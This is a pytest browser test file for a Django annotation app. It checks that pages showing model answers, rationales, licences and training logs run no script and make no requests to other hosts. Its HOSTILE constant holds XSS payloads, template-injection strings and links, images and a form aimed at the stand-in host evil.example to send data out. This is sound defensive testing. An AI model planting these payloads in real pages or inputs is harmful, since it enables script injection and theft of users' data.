"""Hostile model output, prompts and staff text in a real browser: no script runs, nothing loads from elsewhere.

Every page that shows prompts, answers, rationales, configs or licences is opened in Chromium with listeners on
dialogs (alert, confirm...) and on every request the page makes: only this server may be asked for anything.
"""

import json
import sys
from urllib.parse import urlparse

import pytest
from django.core.management import call_command

from annotate import tasks
from annotate.models import DataImport, Judgement, Prompt, TrainingRound
from annotate.rounds import services as rounds
from tests.annotate.browsers import CHROMIUM, CHROMIUM_ARGS
from tests.annotate.voting import vote_as_annotator

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it as root)"),
]

# What a model (or an imported file) might say, each a different way to run script or load from another host.
HOSTILE = "\n\n".join(
    [
        "<script>alert('script tag')</script>",
        "<img src=x onerror=\"alert('onerror')\">",
        "[click me](javascript:alert('javascript link'))",
        "<a href=\"javascript:alert('raw link')\">raw link</a>",
        "<svg onload=\"alert('svg')\"><circle r=5 /></svg>",
        "![remote image](https://evil.example/pixel.png)",
        "![protocol relative](//evil.example/leak.png)",
        "![reference image][ref]\n\n[ref]: http://evil.example/ref.png",
        '<iframe src="//evil.example/frame"></iframe>',
        '<link rel="stylesheet" href="//evil.example/style.css">',
        "<style>@import url(//evil.example/import.css); body { background: url(//evil.example/bg.png) }</style>",
        '<object data="//evil.example/object"></object><embed src="//evil.example/embed">',
        '<meta http-equiv="refresh" content="0; url=//evil.example/refresh">',
        '<base href="//evil.example/">',
        "{{ request.user.password }} {% debug %} {% load static %}{% static 'x' %}",
        '<form action="//evil.example/steal"><button>go</button></form>',
    ]
)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


class Watched:
    """A page with every dialog, request and Content-Security-Policy violation recorded."""

    def __init__(self, browser, live_server):
        self.context = browser.new_context()
        self.page = self.context.new_page()
        self.origin = urlparse(live_server.url).netloc
        self.dialogs, self.requests = [], []
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.context.add_init_script(
            "window.__violations = [];"
            "document.addEventListener('securitypolicyviolation',"
            " (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        self.base = live_server.url

    def log_in(self, username, password):
        self.page.goto(f"{self.base}/accounts/login/")
        self.page.fill("input[name=username]", username)
        self.page.fill("input[name=password]", password)
        self.page.click("button[type=submit]")
        self.page.wait_for_load_state("load")

    def visit(self, path):
        response = self.page.goto(f"{self.base}{path}")
        self.page.wait_for_load_state("networkidle")
        assert response.status < 500, (path, response.status)
        return response

    def foreign_requests(self):
        return [url for url in self.requests if urlparse(url).scheme not in ("data", "blob", "about")
                and urlparse(url).netloc != self.origin]  # fmt: skip

    def violations(self):
        return self.page.evaluate("window.__violations")

    def assert_inert(self, path):
        assert self.dialogs == [], (path, self.dialogs)
        assert self.foreign_requests() == [], (path, self.foreign_requests())
        assert "evil.example" not in self.page.url

    def vote_with(self, field: str, text: str, choice: str) -> None:
        """Type `text` into the vote form's `field` and vote `choice`; the next page (an htmx swap) must stay inert."""
        self.page.fill(f"textarea[name={field}]", text)
        self.page.click(f"button[value={choice}]")
        self.page.wait_for_selector("[data-testid=waiting]")
        self.page.wait_for_load_state("networkidle")
        self.assert_inert(f"/ after voting with a hostile {field}")

    def close(self):
        self.context.close()


@pytest.fixture
def hostile_pair(make_pair):
    return make_pair(
        texts=(f"Left answer.\n\n{HOSTILE}", f"Right answer.\n\n{HOSTILE}"),
        messages=[
            {"role": "system", "content": HOSTILE},
            {"role": "user", "content": f"First question. {HOSTILE}"},
            {"role": "assistant", "content": f"An earlier answer. {HOSTILE}"},
            {"role": "user", "content": f"And now? {HOSTILE}"},
        ],
    )


def annotate_page_inert(browser, live_server, ready: str) -> Watched:
    """The annotator's page once `ready` shows on it, checked to have run and loaded nothing of the hostile text."""
    watched = Watched(browser, live_server)
    watched.log_in("ann", "ann-password-1")
    watched.page.wait_for_selector(ready)
    watched.page.wait_for_load_state("networkidle")
    watched.assert_inert("/")
    assert watched.page.locator("#pair img, #pair script, #pair svg, #pair iframe").count() == 0
    assert watched.page.locator("#pair a[href^='javascript']").count() == 0
    return watched


def test_the_annotate_page_with_hostile_output_runs_and_loads_nothing(browser, live_server, annotator, hostile_pair):
    watched = annotate_page_inert(browser, live_server, "[data-testid=answer-left]")
    assert watched.page.is_visible("text=remote image")  # the image is a link carrying its alt text
    assert watched.violations() == []

    # A hostile rationale, through the page, then the next page (htmx swap) stays inert as well.
    watched.vote_with("rationale", HOSTILE, "tie")
    assert Judgement.objects.get().rationale.startswith("<script>")
    watched.close()


def test_staff_pages_with_hostile_text_run_and_load_nothing(
    browser, live_server, django_user_model, annotator, hostile_pair, serving_version, settings, tmp_path
):
    vote_as_annotator(annotator, pair=hostile_pair, choice="a", rationale=HOSTILE)  # typed into the vote form
    settings.EXPORT_DIR = tmp_path
    call_command("export_preferences", "--format", "trl-preference", "--license", f"mit {HOSTILE}")
    # A round whose training process printed hostile text and failed: the round page shows its log's tail.
    settings.ROUND_DIR = tmp_path / "rounds"
    settings.ROUND_MIN_TRAIN_PAIRS = 1
    settings.ROUND_HOLDOUT_FRACTION = 0.0
    settings.ROUND_POLL_SECONDS = 0.05
    trainer = tmp_path / "hostile_trainer.py"
    trainer.write_text(f"#!{sys.executable}\nimport sys\nprint({HOSTILE!r})\nsys.exit(1)\n")
    trainer.chmod(0o755)
    settings.TRAINING_LAUNCHER = str(trainer)
    round_ = rounds.round_start(trigger="api")
    rounds.round_run(round_.pk)
    round_.refresh_from_db()
    assert round_.status == TrainingRound.Status.FAILED and "<script>" in round_.log_tail
    django_user_model.objects.create_superuser("root", password="root-password-1")
    prompt = Prompt.objects.get(pk=hostile_pair.prompt_id)
    bad_file = tmp_path / "hostile.jsonl"
    bad_file.write_text(json.dumps({"not_a_prompt": HOSTILE}) + "\n")

    watched = Watched(browser, live_server)
    watched.log_in("root", "root-password-1")
    pages = [
        "/rounds/",
        f"/rounds/{round_.pk}/",
        "/data/exports/",
        f"/data/exports/{round_.pk and 1}/",
        "/admin/annotate/prompt/",
        f"/admin/annotate/prompt/{prompt.pk}/change/",
        "/admin/annotate/completion/",
        f"/admin/annotate/completion/{hostile_pair.completion_a_id}/change/",
        "/admin/annotate/pair/",
        f"/admin/annotate/pair/{hostile_pair.pk}/change/",
        "/admin/annotate/judgement/",
        f"/admin/annotate/judgement/{Judgement.objects.get().pk}/change/",
        "/admin/",
    ]
    # The round page's progress bar sets its width in a style attribute, which the policy blocks (the bar shows
    # empty); templates/rounds/detail.html should use <progress> instead. Then this exception goes.
    known_violations: dict[str, list[str]] = {}
    for path in pages:
        watched.visit(path)
        watched.assert_inert(path)
        assert watched.violations() == known_violations.get(path, []), path
        inline_scripts = "script:not([src]):not([type='application/json'])"
        assert watched.page.locator(f"main {inline_scripts}, #content {inline_scripts}").count() == 0, path
        if path == f"/rounds/{round_.pk}/":  # the trainer's hostile output is there, as text
            assert "<script>" in (watched.page.locator("pre.log").text_content() or "")

    watched.visit("/data/prompts/import/")
    watched.page.set_input_files("input[type=file]", str(bad_file))
    watched.page.click("form.data-form button[type=submit]")
    watched.page.wait_for_selector("[data-testid=waiting]")  # the import's own page, polling while it waits
    data_import = DataImport.objects.get()
    assert urlparse(watched.page.url).path == f"/data/imports/{data_import.pk}/"
    tasks.data_import_run(data_import.pk)  # what the worker runs; the page shows the bad line when it next asks
    watched.page.wait_for_selector("[data-testid=line-errors]")
    watched.page.wait_for_load_state("networkidle")
    watched.assert_inert("/data/imports/ rejected")
    assert watched.violations() == []
    watched.close()


def test_the_api_docs_work_under_the_policy(browser, live_server):
    watched = Watched(browser, live_server)
    watched.visit("/api/docs/")
    watched.page.wait_for_selector(".swagger-ui .info .title", timeout=30_000)
    assert "pairloop API" in watched.page.inner_text(".swagger-ui .info .title")
    assert watched.page.locator(".opblock").count() > 10  # the operations, from /api/schema/ on this origin
    watched.assert_inert("/api/docs/")
    assert watched.violations() == []
    watched.close()


def test_the_rank_page_with_hostile_answers_runs_and_loads_nothing(browser, live_server, annotator, make_ranking_pair):
    make_ranking_pair(texts=[f"Answer {number}.\n\n{HOSTILE}" for number in range(1, 5)])
    watched = annotate_page_inert(browser, live_server, "[data-testid=rank-form]")
    assert watched.violations() == []

    # A hostile rationale with a ranking, through the page; the next page (htmx swap) stays inert as well.
    watched.page.fill("textarea[name=rationale]", HOSTILE)
    for number, rank in ((1, 1), (2, 2), (3, 2), (4, 3)):
        watched.page.click(f"[data-testid=rank-{number}-{rank}]")
    watched.page.click("[data-testid=rank-submit]")
    watched.page.wait_for_selector("[data-testid=waiting]")
    watched.page.wait_for_load_state("networkidle")
    watched.assert_inert("/ after ranking")
    assert Judgement.objects.get().rationale.startswith("<script>")
    watched.close()


def test_a_hostile_written_answer_is_inert_where_annotators_and_staff_see_it(
    browser, live_server, annotator, staff, hostile_pair
):
    """An answer an annotator writes (issue 19 part 3) is hostile text like any answer: typed into the annotate
    page's box and sent with the vote, then shown to staff on the pair page, sanitised."""
    from annotate.models import Campaign, HumanAnswer

    Campaign.objects.filter(pk=hostile_pair.campaign_id).update(edits_allowed=True)
    watched = Watched(browser, live_server)
    watched.log_in("ann", "ann-password-1")
    watched.page.wait_for_selector("[data-testid=answer-left]")
    watched.page.click("[data-testid=edit] summary")
    watched.page.click("[data-testid=edit-from-left]")  # the hostile answer, copied into the box as text
    assert "<script>" in watched.page.input_value("textarea[name=edit]")
    watched.vote_with("edit", f"My answer.\n\n{HOSTILE}", "both_bad")
    assert HumanAnswer.objects.get().text.startswith("My answer.\n\n<script>")
    watched.close()

    watched = Watched(browser, live_server)
    watched.log_in("sam", "sam-password-1")
    path = f"/pairs/{hostile_pair.pk}/"
    watched.visit(path)
    watched.assert_inert(path)
    assert watched.violations() == []
    written = watched.page.locator("[data-testid=human-answer]")
    assert written.count() == 1 and "remote image" in written.inner_text()
    assert written.locator("img, script, svg, iframe, a[href^='javascript']").count() == 0
    watched.close()
